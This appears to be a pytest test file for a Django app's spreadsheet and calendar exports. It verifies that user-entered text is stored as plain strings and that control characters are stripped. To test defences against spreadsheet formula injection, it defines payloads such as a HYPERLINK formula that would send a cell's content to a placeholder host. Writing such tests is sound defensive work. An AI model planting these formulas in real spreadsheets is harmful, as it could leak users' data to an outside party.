"""Every .xlsx writes people's text as text: a value that begins with "=" is never a live formula,
and a control character never makes the file unreadable. The files are read back with openpyxl.
The other export, the calendar invitation (.ics), carries no control characters either."""

from io import BytesIO

from django.urls import reverse
from openpyxl import Workbook, load_workbook

from samskab.core.xlsx import append_row
from samskab.processes.models import Participant
from samskab.rounds.models import Action
from tests.helpers import today

FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"Klik her")'
PLUS = "+45 12 34 56 78 ringer"
AT = "@SUM(1+1)"


def _cells(content: bytes) -> list:
    """Every cell of every sheet of the workbook, as openpyxl reads it back."""
    workbook = load_workbook(BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _the_cell(content: bytes, value: str):
    found = [cell for cell in _cells(content) if cell.value == value]
    assert found, f"{value!r} is not in the workbook"
    return found[0]


def _no_formulas(content: bytes) -> None:
    assert [cell.coordinate for cell in _cells(content) if cell.data_type == "f"] == []


def _action(demo, what: str, why: str = "") -> Action:
    return Action.objects.create(
        round=demo.rounds.get(status="aaben"),
        what=what,
        why=why,
        owner=Participant.objects.get(process=demo, user__username="medarbejder"),
        deadline=today(),
    )


def test_an_aftale_that_looks_like_a_formula_is_text_in_the_round_plan(demo, client_as):
    action = _action(demo, FORMULA, why=PLUS)
    response = client_as("med").get(reverse("actionplan:round_plan_xlsx", args=[action.round.pk]))
    assert response.status_code == 200
    cell = _the_cell(response.content, FORMULA)
    assert cell.data_type == "s"
    assert _the_cell(response.content, PLUS).data_type == "s"
    _no_formulas(response.content)


def test_the_process_plan_writes_formulas_as_text_too(demo, client_as):
    _action(demo, AT)
    response = client_as("leder").get(reverse("actionplan:process_plan_xlsx", args=[demo.pk]))
    assert response.status_code == 200
    assert _the_cell(response.content, AT).data_type == "s"
    _no_formulas(response.content)


def test_a_control_character_in_an_aftale_does_not_break_the_plan(demo, client_as):
    action = _action(demo, "Ring til\x0b leverandøren\x07")  # stored before forms stripped them
    response = client_as("med").get(reverse("actionplan:round_plan_xlsx", args=[action.round.pk]))
    assert response.status_code == 200
    assert _the_cell(response.content, "Ring til leverandøren").data_type == "s"


def test_a_process_title_that_looks_like_a_formula_is_text_in_the_portfolio(demo, client_as):
    demo.title = FORMULA
    demo.save(update_fields=["title"])
    response = client_as("central").get(reverse("portfolio:portfolio_xlsx"))
    assert response.status_code == 200
    assert _the_cell(response.content, FORMULA).data_type == "s"
    _no_formulas(response.content)


def test_a_participant_named_like_a_formula_is_text_in_the_import_template(demo, client_as, personas):
    personas["tr"].first_name, personas["tr"].last_name = "=1+1", "\x0bTR"
    personas["tr"].save()
    response = client_as("konsulent").get(reverse("processes:import_template", args=[demo.pk]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert _the_cell(content, "=1+1 TR").data_type == "s"
    _no_formulas(content)


def test_append_row_keeps_numbers_and_dates_and_makes_every_string_text():
    workbook = Workbook()
    sheet = workbook.active
    day = today()
    append_row(sheet, ["=2*3", 6, None, day, "-1", "tab\there\x1b"])
    out = BytesIO()
    workbook.save(out)
    cells = list(load_workbook(BytesIO(out.getvalue())).active.iter_rows())[0]
    assert [(cell.value, cell.data_type) for cell in cells[:3]] == [("=2*3", "s"), (6, "n"), (None, "n")]
    assert cells[3].value.date() == day
    assert [(cell.value, cell.data_type) for cell in cells[4:]] == [("-1", "s"), ("tab\there", "s")]


def test_a_calendar_invitation_carries_an_aftale_without_control_characters_or_line_breaks(demo, client_as):
    from icalendar import Calendar

    action = _action(demo, "Evaluer\x0b skabelonen\nmed teamet", why="Fordi\x07")
    response = client_as("medarbejder").get(reverse("actionplan:action_ics", args=[action.pk]))
    assert response.status_code == 200
    event = Calendar.from_ical(response.content).walk("VEVENT")[0]
    assert str(event["SUMMARY"]) == "Evaluer skabelonen med teamet"
    assert "\x0b" not in response.content.decode() and "\x07" not in response.content.decode()
